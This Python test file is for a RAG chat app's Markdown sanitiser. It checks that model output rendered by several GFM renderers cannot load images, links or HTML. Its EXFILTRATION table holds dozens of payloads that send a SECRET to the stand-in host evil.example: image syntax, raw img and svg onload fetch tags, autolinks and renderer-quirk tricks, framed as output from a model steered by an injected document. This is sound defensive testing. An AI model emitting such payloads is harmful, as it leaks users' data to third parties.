"""Model text rendered so that nothing in it loads: every exfiltration variant, whole and streamed.

What is checked is what Markdown renderers make of the output: it is parsed
again (CommonMark with raw HTML allowed, GFM tables and strikethrough) and no
image, link or HTML may come out of it, and the rendered HTML must not hold an
address a browser would fetch or follow. Three GFM renderers must agree that it
is inert (tests/app/markdown_renderers.py): cmark-gfm, markdown-it with
linkify, and remark-gfm's autolink search, which links addresses even through
backslash escapes.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from gpt4all_rag.markdown import code_span, escape_text, is_inert, safe_markdown
from tests.app.markdown_renderers import cmark_gfm, live_parts, remark_autolinks

# The renderer an attacker would hope for: raw HTML on, tables and strikethrough.
RENDERER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
SECRET = "SECRET"
# Each way the model (steered by a document) could make the page fetch an address.
EXFILTRATION = {
    "image": f"![x](https://evil.example/?q={SECRET})",
    "escaped bang": f"\\![x](https://evil.example/?q={SECRET})",
    "double backslash": f"\\\\![x](https://evil.example/?q={SECRET})",
    "reference image": f"![x][r]\n\n[r]: https://evil.example/?q={SECRET}",
    "collapsed reference": f"![r][]\n\n[r]: https://evil.example/?q={SECRET}",
    "shortcut reference": f'![r]\n\n[r]: <https://evil.example/?q={SECRET}> "t"',
    "angle destination": f"![x](<https://evil.example/?q={SECRET}> 'title')",
    "raw img": f'<img src="https://evil.example/?q={SECRET}">',
    "raw img inline": f"Text <img src='https://evil.example/?q={SECRET}' /> more",
    "html block": f'<div>\n<img src="https://evil.example/?q={SECRET}">\n</div>',
    "svg onload": f"<svg onload=\"fetch('https://evil.example/?q={SECRET}')\"></svg>",
    "entity encoded": f"&#33;[x](https://evil.example/?q={SECRET}) &lt;img src=x&gt;",
    "autolink": f"<https://evil.example/?q={SECRET}>",
    "bare url": f"See https://evil.example/?q={SECRET} now",
    "www url": f"See www.evil.example/?q={SECRET} now",
    "email": f"Mail {SECRET}@evil.example now",
    "link": f"[click](https://evil.example/?q={SECRET})",
    "image in link": f"[![x](https://evil.example/i?q={SECRET})](https://evil.example/)",
    "in list": f"- item\n- ![x](https://evil.example/?q={SECRET})",
    "in quote": f"> ![x](https://evil.example/?q={SECRET})",
    "in heading": f"# Title ![x](https://evil.example/?q={SECRET})",
    "in table": f"| a | b |\n|---|---|\n| `x` | ![x](https://evil.example/?q={SECRET}) |",
    "pipe in table code": (
        f"| a | b |\n|---|---|\n| `x\\|y` ![x](https://evil.example/?q={SECRET}) | z |"
    ),
    "in emphasis": f"**![x](https://evil.example/?q={SECRET})**",
    "split over lines": f"![x](\nhttps://evil.example/?q={SECRET}\n)",
    "data url": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "math": "$\\href{https://evil.example/}{x}$ and $$\\includegraphics{https://evil.example}$$",
    "streamlit directive": ":red[x] :material/home: ![x](https://evil.example/q)",
    # Issue 21 item 1: an address, then a code span; the two spans' fences merged.
    "mail then code": f"Mail a@e.x``b`![x](http://evil.example/?q={SECRET})``",
    "url then code": f"See https://e.x/``x`![y](http://evil.example/?q={SECRET})``",
    "www then code": f"www.e.x`````a````![x](http://evil.example/?q={SECRET})`````",
    "code then mail": f"``![x](http://evil.example/?q={SECRET})`b``a@e.x",
    "link label is the code": f"[`x`](`x`)``![x](http://evil.example/?q={SECRET})``",
    # Issue 21 item 4: GFM takes `_` for punctuation before an address; Python's \b does not.
    "underscore http": f"_http://evil.example/?q={SECRET}",
    "underscore www": f"x_www.evil.example/?q={SECRET}",
    "underscore www heading": f"# x_www.evil.example/?q={SECRET}",
    "underscore in cell": f"| a |\n|---|\n| x_www.evil.example/?q={SECRET} |",
    "bare www": "see www. and WWW.evil.example now",
    "digit http": f"1http://evil.example/?q={SECRET}",
    # Found by the fuzzing: cmark-gfm links an address whose domain starts with a dot, and
    # finds e-mail addresses through backslash escapes.
    "dot domain email": f"?q={SECRET}x@.evil.example#/",
    "escaped email": f"{SECRET}\\@evil\\.example",
    # Beyond the list.
    "entity backticks": f"Mail a@e.x&#96;&#96;b&#96;![x](http://evil.example/?q={SECRET})&#96;&#96;",
    "entity www": f"w&#119;w&#46;evil.example/?q={SECRET} and a&#64;evil.example",
    "reference over lines": f"![x][r]\n\n[r]:\n  http://evil.example/?q={SECRET}\n  'title'",
    "definition first": f"[r]: http://evil.example/?q={SECRET}\n\n![x][r] [r]",
    "nested brackets": f"[[![x](http://evil.example/?q={SECRET})]](http://e.x/) ![a [b] c](http://e.x/)",
    "code in link text": f"[a@e.x`b`](http://evil.example/?q={SECRET})``![x](http://e.x/)``",
    "backslash line end": f"a@e.x\\\n![x](http://evil.example/?q={SECRET})\\",
    "table pipe code": (
        f"| a | b |\n|---|---|\n| www.e.x`|`![x](http://evil.example/?q={SECRET})` | z |"
    ),
    "look-alike backticks": (
        f"a@e.x\u02cbb\u02cb![x](http://evil.example/?q={SECRET}) \uff40x\uff40"
    ),
    "fullwidth": (
        f"\uff57\uff57\uff57\uff0eevil.example a\uff20evil.example ![x](http://e.x/?q={SECRET})"
    ),
    "crlf": (
        f"Mail a@e.x``b`![x](http://evil.example/?q={SECRET})``\r\n![x]\r\n\r\n[x]: http://e.x/\r\n"
    ),
}


def hostile_answer() -> str:
    """Every variant in one answer, each with its own secret.

    Distinct secrets keep any run of words from repeating, which the
    repetition guard would take for a loop and cut.
    """
    variants = EXFILTRATION.values()
    return "\n\n".join(text.replace(SECRET, f"{SECRET}{n}") for n, text in enumerate(variants))


# A web address in the rendered HTML: the thing a browser would fetch or follow.
ADDRESS_ATTRIBUTE = re.compile(
    r"<(?:img|a|script|iframe|svg|source|video|audio|link|object|embed)\b"
    r"|<[a-z][^>]*\s(?:src|href|srcset|poster|data)="
)


def live_tokens(markdown: str) -> list[str]:
    """The images, links and raw HTML a CommonMark renderer finds in ``markdown``."""
    found: list[str] = []
    stack: list[Token] = list(RENDERER.parse(markdown))
    while stack:
        token = stack.pop()
        if token.type in {"image", "link_open", "html_inline", "html_block"}:
            found.append(f"{token.type}: {token.content or token.attrs}")
        stack.extend(token.children or [])
    return found + live_parts(markdown)


def assert_inert(markdown: str) -> None:
    assert live_tokens(markdown) == []
    assert not ADDRESS_ATTRIBUTE.search(RENDERER.render(markdown)), RENDERER.render(markdown)


def prefixes(text: str) -> list[str]:
    return [text[:n] for n in range(1, len(text) + 1)]


def test_the_checker_sees_the_variants_as_live_when_not_rendered() -> None:
    assert [name for name, text in EXFILTRATION.items() if not live_tokens(text)] == []


@pytest.mark.parametrize("text", EXFILTRATION.values(), ids=EXFILTRATION.keys())
def test_every_exfiltration_variant_is_inert_whole(text: str) -> None:
    assert_inert(safe_markdown(text))


def test_streamlit_extensions_cannot_start() -> None:
    # Streamlit also renders $math$ (KaTeX), :color[directives] and :emoji: shortcodes.
    shown = safe_markdown(EXFILTRATION["math"] + " " + EXFILTRATION["streamlit directive"])

    outside_code = re.sub(r"(`+).*?\1", "", shown)
    assert re.findall(r"(?<!\\)[$:]", outside_code) == []
    assert outside_code.count("\\$") == 6


@pytest.mark.parametrize("text", EXFILTRATION.values(), ids=EXFILTRATION.keys())
def test_every_exfiltration_variant_is_inert_at_every_point_of_a_stream(text: str) -> None:
    # A stream is rendered again from the whole text so far after each piece; the
    # worst case is a piece per character, which ends on every possible split.
    for prefix in prefixes(text):
        assert_inert(safe_markdown(prefix + "▌"))


def test_an_image_becomes_its_alt_text_and_its_address_as_code() -> None:
    shown = safe_markdown(f"Look ![the chart](https://evil.example/c.png?q={SECRET}) here.")

    assert shown == (
        "Look the chart \\(image not loaded\\: `https://evil.example/c.png?q=SECRET`\\) here\\."
    )
    assert RENDERER.render(shown) == (
        "<p>Look the chart (image not loaded: <code>https://evil.example/c.png?q=SECRET</code>)"
        " here.</p>\n"
    )


def test_the_escaped_bang_variant_shows_text_and_code_only() -> None:
    shown = safe_markdown(f"\\![x](https://evil.example/?q={SECRET})")

    assert RENDERER.render(shown) == ("<p>!x (<code>https://evil.example/?q=SECRET</code>)</p>\n")


def test_raw_html_is_shown_as_the_text_it_is() -> None:
    shown = safe_markdown('A <img src="x.png"> and <b>bold</b> & co.')

    assert RENDERER.render(shown) == (
        "<p>A &lt;img src=&quot;x.png&quot;&gt; and &lt;b&gt;bold&lt;/b&gt; &amp; co.</p>\n"
    )


@pytest.mark.parametrize(
    "text",
    [
        "The core runs at **451 kelvin** [1].",
        'Use `install.packages("x")` and *then* ~~not~~ this [1, 2].',
        "# Title\n\nA paragraph\nover two lines.\n\n## Sub\n\nText.",
        "- one\n- two\n  - nested\n- three",
        "1. first\n2. second\n\n   more of second\n3. third",
        "> quoted\n> text\n\nafter",
        '```r\ninstall.packages("x")\n# a comment\n```',
        "    indented code <b>\n",
        "| a | b |\n|:--|--:|\n| 1 | 2 |",
        "A line  \nwith a hard break, and a rule:\n\n***\n\nend.",
        "Prices: $5 and 3 < 4 > 2 & 10% off_the_top *really*.",
    ],
)
def test_ordinary_markdown_looks_the_same(text: str) -> None:
    # The Markdown differs (escapes, fenced code); what a reader sees does not.
    assert RENDERER.render(safe_markdown(text)) == RENDERER.render(text)


def test_code_keeps_backticks_and_table_pipes() -> None:
    assert code_span("a `b` c") == "``a `b` c``"
    assert code_span("`x`") == "`` `x` ``"
    assert code_span("a|b", in_table=True) == "`a\\|b`"
    assert code_span("line\nbreak") == "`line break`"
    assert RENDERER.render(safe_markdown("```\nx ``` y\n```")) == (
        "<pre><code>x ``` y\n</code></pre>\n"
    )


def test_escape_text_shows_a_hostile_file_name_literally() -> None:
    name = "x.![](http://evil.example/a.png)"

    shown = escape_text(name)

    assert_inert(shown)
    assert RENDERER.render(shown) == ("<p>x.![](<code>http://evil.example/a.png</code>)</p>\n")


def test_escape_text_keeps_lines_and_neutralizes_line_starts() -> None:
    shown = escape_text("1. not a list\n# not a heading\n\n<img src=x>\r- no")

    assert_inert(shown)
    assert RENDERER.render(shown) == (
        "<p>1. not a list\n# not a heading</p>\n<p>&lt;img src=x&gt;\n- no</p>\n"
    )


# Pieces that combine into every construct above, for random documents.
PIECES = [
    "!", "[", "]", "(", ")", "<", ">", "\\", "`", "*", "_", "|", "-", "#", ":", "&", ";",
    " ", "\n", "\n\n", "    ", "x", "1.", "![", "](", "[r]: ", "http://e.example/?q=S",
    "www.e.example", "a@e.example", "<img src=http://e.example/i>", "&#33;", "&lt;",
    "<http://e.example>", "```", "~~~", "> ", "- ", "| a |", "|---|", "$", "\"t\"",
]  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=40))
def test_no_combination_of_pieces_makes_anything_live(pieces: list[str]) -> None:
    text = "".join(pieces)

    assert_inert(safe_markdown(text))
    assert_inert(escape_text(text))


# What safe_markdown made of item 1's payloads before the fix (issue 21), as the review saw it.
MERGED_FENCES = [
    f"Mail `a@e.x```b`![x](http://evil.example/?q={SECRET})``",
    "See `https://e.x/```x`![y](http://evil.example/)``",
    "`www.e.x``````a````![x](http://evil.example/)`````",
]


@pytest.mark.parametrize("markdown", MERGED_FENCES)
def test_the_checks_see_merged_fences_as_an_image(markdown: str) -> None:
    assert '<img src="http://evil.example/' in cmark_gfm(markdown)
    assert not is_inert(markdown)


def test_an_address_next_to_code_stays_apart_from_it() -> None:
    shown = safe_markdown(f"Mail a@e.x``b`![x](http://evil.example/?q={SECRET})``")

    assert shown == f"Mail `a@e.x` ``b`![x](http://evil.example/?q={SECRET})``"
    assert cmark_gfm(shown) == (
        f"<p>Mail <code>a@e.x</code> <code>b`![x](http://evil.example/?q={SECRET})</code></p>\n"
    )
    assert cmark_gfm(safe_markdown("www.e.x`code`")) == (
        "<p><code>www.e.x</code> <code>code</code></p>\n"
    )


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("_http://evil.example/?q=S", "\\_`http://evil.example/?q=S`"),
        ("x_www.evil.example/?q=S", "x\\_`www.evil.example/?q=S`"),
        ("# x_www.evil.example", "# x\\_`www.evil.example`"),
        ("see www. now", "see `www`\\. now"),
    ],
)
def test_an_address_after_an_underscore_is_code(text: str, shown: str) -> None:
    # remark-gfm links these even escaped: it searches the text after unescaping.
    assert remark_autolinks(text.replace(".", "\\.").replace("_", "\\_")) != []

    assert safe_markdown(text) == shown
    assert remark_autolinks(shown) == []
    assert escape_text(text.removeprefix("# ")) == shown.removeprefix("# ")


@pytest.mark.parametrize(
    "markdown",
    [
        "![x](http://e.x/)",
        "[x](http://e.x/)",
        "<http://e.x/>",
        "a <b>bold</b> word",
        "<div>\nblock\n</div>",
        "plain http://e.x/ text",
        "www\\.evil\\.example",  # linked by remark-gfm through the escapes
        "x\\_a\\@evil\\.example",
        "w&#119;w.evil.example",
        "*www*.evil.example",  # joined across markup: refused, though no renderer links it
    ],
)
def test_is_inert_refuses_anything_a_renderer_could_make_live(markdown: str) -> None:
    assert not is_inert(markdown)


def test_is_inert_accepts_escaped_text_and_addresses_as_code() -> None:
    assert is_inert("See `www.evil.example` and `a@e.x` \\[1\\]\\. **Bold** `code`.")
    assert is_inert("| a |\n|---|\n| `x\\|y` |\n\n```\n![x](http://e.x/) <b>\n```")


def test_text_the_rewrite_would_join_into_an_address_is_shown_escaped_instead() -> None:
    # The rewrite gives "mailto\:x \(image not loaded…": the text reads "mailto:x" across
    # two nodes. No renderer links that, but the check fails closed on it.
    text = "mailto:![x](http://evil.example/?q=S)"

    shown = safe_markdown(text)

    assert shown == escape_text(text) == "`mailto:![x](http://evil.example/?q=S`\\)"
    assert_inert(shown)


def test_whole_words_escaped_one_by_one_join_into_the_escaped_text() -> None:
    words = ["Mail ", "me ", "at ", "a@evil.example ", "or ", "www.evil.example/?q=S_x ", "now"]

    assert "".join(escape_text(word) for word in words) == escape_text("".join(words))
    # Parts of a word escaped one by one would join into links:
    pieces = ["a", "@evil.example or www", ".evil.example/?q=S"]
    assert remark_autolinks("".join(escape_text(piece) for piece in pieces)) != []


@pytest.mark.parametrize(
    "text",
    ["a" * 20_000, "a1" * 10_000, "a.b" * 7_000, "a@" + "b" * 20_000, "x_" * 10_000],
    ids=["letters", "letters-digits", "dotted", "at-then-letters", "underscores"],
)
def test_a_long_word_is_read_in_linear_time(text: str) -> None:
    """A model pushed to write one endless word must not freeze the page (it took 12 s)."""
    import time

    started = time.perf_counter()
    shown = safe_markdown(text)
    escape_text(text)
    assert time.perf_counter() - started < 2.0
    assert is_inert(shown)
